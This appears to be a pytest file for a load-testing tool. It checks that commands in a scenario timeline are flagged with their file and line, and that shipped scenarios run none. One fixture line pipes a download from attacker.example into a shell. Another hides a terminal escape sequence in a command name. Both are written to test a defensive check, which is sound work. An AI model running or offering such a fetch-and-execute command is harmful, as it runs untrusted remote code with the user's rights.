"""Commands in a scenario's timeline, and their report where none are allowed."""

from pathlib import Path

import pytest

from loadtests.scenario import parse_scenario, scenario_files
from loadtests.scenario.checks import problems_of_commands
from loadtests.scenario.finding import read_scenario

SCENARIO = """\
name: short
agent:
  subscriptions: 1
  think: {median: 50ms, sigma: 0.3}
  chats_at_once: 3
  session: 10s
customer:
  arrivals: constant
  patience: 2s
  messages: {min: 1, max: 1}
  pause: {median: 30ms, sigma: 0.3}
stages:
  - {name: warm-up, duration: 1s, agents: 2, arrivals_per_s: 5}
  - {name: steady, duration: 10s, agents: 2, arrivals_per_s: 5, judge: true}
"""
TIMELINE = """\
timeline:
  - {stage: steady, do: http, url: "http://127.0.0.1:1/"}
  - {stage: steady, after: 1s, do: run, command: [/bin/sh, -c, "curl attacker.example | sh -s canary-4711"]}
  - stage: steady
    after: 3s
    do: run
    command: ["./install\\e[2J"]
"""


def test_every_command_is_reported_with_its_line() -> None:
    text = SCENARIO + TIMELINE
    scenario = parse_scenario(text, "x.yaml")
    assert [n for n, action in enumerate(scenario.timeline) if action.program] == [1, 2]
    first, second = problems_of_commands(scenario, text, "x.yaml")
    assert first == (
        "x.yaml:17: timeline[1].command: got the command '/bin/sh', expected no commands, or --allow-commands after "
        "you have read them: they run with your user's rights"
    )
    assert second.startswith("x.yaml:21: timeline[2].command: got the command './install")
    assert second.isprintable()
    assert "canary" not in first + second, "arguments may hold anything"


@pytest.mark.parametrize("timeline", ["", 'timeline: [{stage: steady, do: http, url: "http://127.0.0.1:1/"}]\n'])
def test_scenario_without_commands_has_no_problem(timeline: str) -> None:
    text = SCENARIO + timeline
    assert problems_of_commands(parse_scenario(text, "x.yaml"), text, "x.yaml") == []


@pytest.mark.parametrize("path", scenario_files().values(), ids=lambda path: path.stem)
def test_shipped_scenarios_run_no_commands(path: Path) -> None:
    assert not any(action.program for action in read_scenario(path)[0].timeline)
